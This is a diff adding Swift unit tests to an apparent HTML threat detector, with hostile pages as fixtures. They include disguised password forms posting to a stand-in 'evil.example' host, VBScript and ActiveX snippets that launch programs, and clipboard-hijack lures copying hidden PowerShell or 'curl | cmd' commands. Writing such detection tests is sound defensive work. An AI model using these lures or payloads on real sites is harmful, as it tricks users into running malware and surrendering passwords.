@@ -48,6 +48,46 @@ import Testing
     #expect(verdict(page) == .phishing)
   }
 
+  @Test(arguments: [
+    "name=email><input name=pw type=text autocomplete=current-password",
+    "placeholder='パスワード'", "style='-webkit-text-security: disc'", "id=UserPassword type=tel",
+  ])
+  func `a field that is a password's by all but its type is one`(field: String) {
+    let page = "<html><form action='https://evil.example/x'><input \(field)></form></html>"
+    #expect(rules(page) == ["html.password-form"])
+    #expect(rules("<html><form><input name=q type=search><input type=submit></form></html>") == [])
+  }
+
+  @Test(arguments: [
+    "<script language=VBScript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>",
+    "<script>new ActiveXObject('Shell.' + 'Application').ShellExecute('calc')</script>",
+    "<body onload='GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create(\"calc\")'>",
+  ])
+  func `a page that only Windows' own host can run is an application`(page: String) {
+    for name in ["a.html", "file 1", "readme.txt"] {
+      #expect(rules("<html>\(page)</html>", name).contains("html.runs-programs"))
+      #expect(verdict("<html>\(page)</html>", name) == .malicious)
+    }
+    let old = "<html><script>new ActiveXObject('Microsoft.XMLHTTP')</script></html>"
+    #expect(rules(old) == ["html.script"])
+  }
+
+  @Test(arguments: [
+    "<script>b.onclick = () => navigator.clipboard.writeText('powershell -w hidden -c iex(x)')",
+    "<script>x.value = 'cmd /c curl //x | cmd'; x.select(); document.execCommand('copy')",
+    "<script>navigator['clipboard']['writeText'](atob('cG93ZXJzaGVsbA=='))",
+    "<p>Press <b>Win</b> + <b>R</b></p><script>navigator.clipboard.writeText(c.innerText)",
+  ])
+  func `a page that hands a command to be pasted is malicious`(page: String) {
+    let page = "<html>\(page)</script></html>"
+    #expect(verdict(page) == .malicious && rules(page).contains("html.hands-command"))
+  }
+
+  @Test func `a page that copies its link is not`() {
+    let page = "<html><script>navigator.clipboard.writeText(link.href)</script></html>"
+    #expect(rules(page) == ["html.script"])
+  }
+
   @Test func `a form that a script writes is found behind its encodings`() {
     let inner = "<form action='https://evil.example/'><input type='password' name='p'></form>"
     let percent = inner.utf8.map { "%" + String(Int($0) + 0x100, radix: 16).dropFirst() }.joined()
